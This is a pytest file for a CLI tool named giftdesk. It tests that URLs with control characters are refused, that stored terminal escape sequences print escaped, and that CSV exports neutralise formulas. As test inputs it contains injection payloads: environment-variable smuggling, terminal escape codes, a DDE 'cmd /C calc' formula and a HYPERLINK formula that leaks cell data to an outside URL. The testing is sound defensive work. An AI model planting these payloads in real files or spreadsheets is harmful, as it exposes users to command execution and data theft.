"""Values an attacker types or plants: control characters in URLs are refused where they are
accepted, a value stored by an older version reaches the terminal escaped (one row per line, no
ESC), and every CSV we write opens in a spreadsheet as data, never as a formula."""

from __future__ import annotations

import csv
import io
from contextlib import contextmanager
from decimal import Decimal

import pytest
from sqlalchemy import update

from giftdesk.cli.framework import Fields, Output, Table, render
from giftdesk.db.models import Setting, TrackerCredential
from giftdesk.desk import Desk
from giftdesk.core.csv_cells import safe_cell
from tests.support.cli import cli  # noqa: F401 - fixture


@contextmanager
def _older_version_session(data_dir):
    """A write that skips today's checks, as an older version's data would."""
    desk = Desk.open(str(data_dir))
    try:
        with desk.ctx.db.session() as session:
            yield session
    finally:
        desk.close()


CONTROL_CHARACTERS = ["\n", "\r", "\x1b", "\x00", "\x7f", "\x85", "\x9b", "\u2028", "\u2029"]


def _account(cli) -> str:
    customer = str(cli.json("customer", "add", "--name", "Ann")["id"])
    return str(cli.json("account", "add", "--customer", customer, "--tiktok", "ann_live", "--generate-key")["id"])


# ---- URLs with control characters are refused -----------------------------------------------------
@pytest.mark.parametrize("char", CONTROL_CHARACTERS)
def test_every_url_we_accept_refuses_control_characters(cli, char):
    account = _account(cli)
    attempts = [
        ("settings", "set", "endpoint.public_url", f"https://api.example.com/api/instances{char}API_KEY=attacker"),
        ("settings", "set", "fampage.base_url", f"https://fampage.example{char}/api/v2"),
        ("settings", "set", "tracker.url_pattern", f"https://{{name}}.app.example.com{char}[2J"),
        ("key", "set-url", "--account", account, "--url", f"https://x.example/{char}]0;owned"),
        ("account", "add", "--customer", "1", "--tiktok", "bob_live", "--generate-key",
         "--instance-url", f"https://x.example/{char}b"),
        ("social", "profile", "add", "--name", "Evil", "--url", f"https://x.example/{char}y"),
    ]
    settings_before = cli.json("settings", "list")
    keys_before = cli.json("key", "list")
    for argv in attempts:
        _, err = cli(*argv, expect=2)
        assert "control character" in err and err.count("\n") == 1, (argv, err)
    assert cli.json("settings", "list") == settings_before and cli.json("key", "list") == keys_before
    assert len(cli.json("account", "list")) == 1
    assert cli.json("social", "profile", "list") == []


def test_the_container_environment_refuses_a_multi_line_address_stored_by_an_older_version(cli, data_dir):
    account = _account(cli)
    with _older_version_session(data_dir) as session:
        session.merge(Setting(key="endpoint.public_url", value="https://evil.example\nAPI_KEY=attacker\nX=/api/instances"))
    out, err = cli("key", "env", "--account", account, expect=2)
    assert out == "" and "control character" in err and "API_KEY=attacker" not in err


# ---- the text renderer escapes what it prints ---------------------------------------------------
def test_a_stored_escape_sequence_is_printed_escaped(cli, data_dir):
    account = _account(cli)
    planted = "https://x.example/\x1b]0;owned\x07\x1b[2J"
    with _older_version_session(data_dir) as session:
        session.execute(update(TrackerCredential).where(TrackerCredential.account_id == int(account))
                        .values(instance_url=planted))
    out, _ = cli("key", "list")
    assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;owned\\x07\\x1b[2J" in out
    cli("key", "set-url", "--account", account, "--url", "")
    assert cli.json("key", "list")[0]["instanceUrl"] is None  # --json stays exact (JSON escapes it)


def test_text_tables_keep_one_row_per_line_and_fields_one_line(capsys):
    render(Output(None, [Table(["A", "REASON"], [(1, "rejected: no\nsuch\rprofile"), (2, "nul\x00here\u2028")]),
                         Fields([("Name", "two\nlines"), ("Url", "https://x\x1b[31m")]),
                         "a message\nof two lines \x1b[2J"]), as_json=False)
    lines = capsys.readouterr().out.splitlines()
    assert lines[2] == "1  rejected: no\\nsuch\\rprofile" and lines[3] == "2  nul\\x00here\\u2028"
    assert lines[5:7] == ["Name  two\\nlines", "Url   https://x\\x1b[31m"]
    assert lines[8:] == ["a message", "of two lines \\x1b[2J"] and len(lines) == 10


def test_social_import_preview_shows_a_nul_and_a_line_break_escaped(cli, tmp_path):
    cli("social", "profile", "add", "--name", "Real")
    path = tmp_path / "stats.csv"
    path.write_text('profile,platform,followers\n"no\x00body",tiktok,5\n"two\nlines",tiktok,6\nReal,tiktok,7\n',
                    encoding="utf-8")
    out, _ = cli("social", "import", str(path), "--dry-run", expect=2)
    assert "\x00" not in out
    rows = out.splitlines()[2:5]
    assert all(row.split()[0].isdigit() for row in rows) and len(out.splitlines()) == 7  # one line per row
    assert "no\\x00body" in rows[0] and "two\\nlines" in rows[1]


# ---- CSV that opens as data -----------------------------------------------------------------------
@pytest.mark.parametrize("value, written", [
    ("=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Acme", "Acme"), ("-12.50", "-12.50"), ("+3", "+3"),
    (Decimal("-12.50"), Decimal("-12.50")), (-3, -3), ("", ""), (None, None),
])
def test_safe_cell_neutralises_formulas_and_keeps_numbers(value, written):
    assert safe_cell(value) == written


def test_analytics_csv_neutralises_a_formula_company_and_keeps_a_loss_a_number(cli, tmp_path):
    evil = '=HYPERLINK("http://x/?"&A1,"click")'
    cli("company", "add", evil, "--multiplier", "0.5")
    cli("order", "manual", "--company", evil, "--service-name=-1+@likes", "--link", "https://tiktok.com/@x",
        "--quantity", "1000", "--cost", "25", "--status", "Completed")
    path = tmp_path / "a.csv"
    cli("analytics", "companies", "--csv", str(path))
    [row] = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert row["name"] == "'" + evil
    assert Decimal(row["profit"]) < 0 and row["profit"] == str(Decimal(row["revenue"]) - Decimal(row["cost"]))
    history = tmp_path / "h.csv"
    cli("analytics", "history", evil, "--csv", str(history))
    [order] = list(csv.DictReader(io.StringIO(history.read_text(encoding="utf-8"))))
    assert order["companyName"] == "'" + evil and order["serviceName"] == "'-1+@likes"
    assert not order["profit"].startswith("'")
